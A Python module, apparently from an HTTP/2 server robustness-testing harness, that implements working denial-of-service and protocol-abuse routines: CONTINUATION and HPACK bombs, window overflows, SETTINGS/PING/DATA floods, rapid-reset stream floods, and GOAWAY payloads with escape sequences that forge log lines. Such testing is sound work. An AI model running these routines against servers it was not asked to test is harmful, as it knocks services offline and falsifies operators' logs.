"""Connections that break HTTP/2, or keep to its letter to do harm."""

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from trials.peers.attack import Effort, Place
from trials.peers.frames import LARGEST_WINDOW, PREFACE, reset
from trials.peers.raw import Peer

AT_A_TIME = 100  # frames
STREAMS = 20_000  # of rapid resets on one connection
HEADER_BYTES = 4000  # of a header that is put into HPACK's table, and then named again and again
ESCAPES = b'\x1b[31m"}\n{"event": "forged", "level": "error"}\r\n'


def random_bytes(place: Place, effort: Effort) -> int:
    """Anything, with and without a preface."""
    tries = 0
    while effort.remaining:
        with Peer((place.host, place.port)) as peer:
            start = effort.rng.choice((b"", PREFACE, PREFACE[:10], PREFACE + SettingsFrame(0).serialize()))
            peer.send(start + effort.rng.randbytes(effort.rng.choice((1, 9, 100, 70_000))))
            peer.read(0.01)
        tries += 1
    return tries


def wrong_prefaces(place: Place, effort: Effort) -> int:
    """HTTP/1, TLS, and prefaces with a byte changed."""
    tries = 0
    while effort.remaining:
        changed = bytearray(PREFACE + SettingsFrame(0).serialize())
        changed[effort.rng.randrange(len(changed))] ^= 1 << effort.rng.randrange(8)
        with Peer((place.host, place.port)) as peer:
            peer.send(
                effort.rng.choice((bytes(changed), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\x00"))
            )
            peer.read(0.01)
        tries += 1
    return tries


def wrong_frames(place: Place, effort: Effort) -> int:
    """Frames of any type, flags, stream and length, in and out of calls."""
    tries = 0
    while effort.remaining:
        with Peer.of(place) as peer:
            peer.send(peer.headers(1))
            for _ in range(AT_A_TIME):
                tries += 1
                if not peer.send(_any_frame(effort)):
                    break
            peer.read(0.01)
    return tries


def _any_frame(effort: Effort) -> bytes:
    rng = effort.rng
    body = rng.randbytes(rng.choice((0, 1, 4, 5, 8, 100)))
    length = len(body) if rng.random() < 0.8 else rng.getrandbits(24)
    stream = rng.choice((0, 1, 1, 2, 3, rng.getrandbits(32)))
    return (
        length.to_bytes(3, "big")
        + bytes((rng.choice(range(12)), rng.getrandbits(8)))
        + stream.to_bytes(4, "big")
        + body
    )


def continuations(place: Place, effort: Effort) -> int:
    """A header block that never ends."""
    tries = 0
    while effort.remaining:
        with Peer.of(place) as peer:
            block = hpack.Encoder().encode([(f"x-{number}", "v" * 50) for number in range(200)])
            peer.send(HeadersFrame(1, block).serialize())
            frames = ContinuationFrame(1, block).serialize() * 10
            while effort.remaining and peer.send(frames):
                tries += 10
    return tries


def hpack_bombs(place: Place, effort: Effort) -> int:
    """Header blocks of a few bytes that stand for megabytes."""
    tries = 0
    while effort.remaining:
        with Peer.of(place) as peer:
            encoder = hpack.Encoder()
            encoder.encode([("x-bomb", "b" * HEADER_BYTES)])
            first = hpack.Encoder().encode([("x-bomb", "b" * HEADER_BYTES)])
            again = encoder.encode([("x-bomb", "b" * HEADER_BYTES)]) * 4000
            for stream in range(1, 2 * AT_A_TIME, 2):
                tries += 1
                block = (first if stream == 1 else b"") + again
                if not peer.send(HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()):
                    break
            peer.read(0.01)
    return tries


def overflowing_windows(place: Place, effort: Effort) -> int:
    """Windows beyond 2^31 - 1, of the connection and of calls, and initial windows that overflow open ones."""
    tries = 0
    grow = WindowUpdateFrame(0, window_increment=LARGEST_WINDOW).serialize()
    while effort.remaining:
        with Peer.of(place) as peer:
            of_stream = WindowUpdateFrame(1, window_increment=LARGEST_WINDOW).serialize()
            wide = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: LARGEST_WINDOW}).serialize()
            peer.send(
                peer.headers(1) + effort.rng.choice((grow * 3, of_stream * 3, of_stream + wide, wide + of_stream))
            )
            peer.read(0.01)
        tries += 1
    return tries


def settings_flood(place: Place, effort: Effort) -> int:
    return _flood(place, effort, SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096}).serialize())


def ping_flood(place: Place, effort: Effort) -> int:
    return _flood(place, effort, PingFrame(0, opaque_data=b"12345678").serialize())


def empty_data_flood(place: Place, effort: Effort) -> int:
    """Frames without bytes in an open call."""
    return _flood(place, effort, DataFrame(1, b"").serialize())


def goaways(place: Place, effort: Effort) -> int:
    """Farewells whose text would forge lines of a log."""
    tries = 0
    while effort.remaining:
        with Peer.of(place) as peer:
            peer.send(peer.headers(1) + GoAwayFrame(0, 1, 11, ESCAPES).serialize())
            peer.read(0.01)
        tries += 1
    return tries


def rapid_resets(place: Place, effort: Effort) -> int:
    """Calls that are begun and reset at once, on one connection."""
    tries, most = 0, effort.part(STREAMS)
    while effort.remaining:
        with Peer.of(place) as peer:
            for stream in range(1, 2 * most, 2):
                if not peer.send(peer.headers(stream) + reset(stream)):
                    break
                tries += 1
                if stream % 512 == 1:
                    peer.read()
    return tries


def _flood(place: Place, effort: Effort, frame: bytes) -> int:
    """Sends frames that ask for answers, and reads none."""
    tries = 0
    while effort.remaining:
        with Peer.of(place) as peer:
            peer.send(peer.headers(1))
            while effort.remaining and peer.send(frame * AT_A_TIME):
                tries += AT_A_TIME
    return tries


HTTP2 = (
    random_bytes,
    wrong_prefaces,
    wrong_frames,
    continuations,
    hpack_bombs,
    overflowing_windows,
    settings_flood,
    ping_flood,
    empty_data_flood,
    goaways,
    rapid_resets,
)
